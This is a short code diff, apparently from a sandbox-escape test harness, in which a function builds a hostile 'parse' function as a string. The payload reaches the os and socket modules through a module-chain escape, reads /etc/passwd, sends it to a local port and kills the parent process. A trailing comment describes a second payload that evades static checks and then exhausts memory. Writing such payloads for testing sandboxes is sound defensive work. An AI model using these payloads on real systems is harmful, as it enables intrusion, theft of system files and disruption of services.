@@ -58,10 +58,10 @@ def bypass_parser(port: int) -> str:
             "def parse(html):\n"
             "    os = decoder.re.enum.sys.modules['os']\n"
             "    secret = os.read(os.open('/etc/passwd', 0), 4096)\n"
-            "    s = decoder.re.enum.sys.modules['socket'].create_connection(('127.0.0.1', %d))\n"
+            f"    s = decoder.re.enum.sys.modules['socket'].create_connection(('127.0.0.1', {port}))\n"
             "    s.sendall(secret)\n"
             "    os.kill(os.getppid(), 9)\n"
-            "    return [{'name': 'x', 'score': '1'}]\n" % port)
+            "    return [{'name': 'x', 'score': '1'}]\n")
 
 
 # Passes the static check; at run time it walks for a module, finds none, then exhausts its memory.
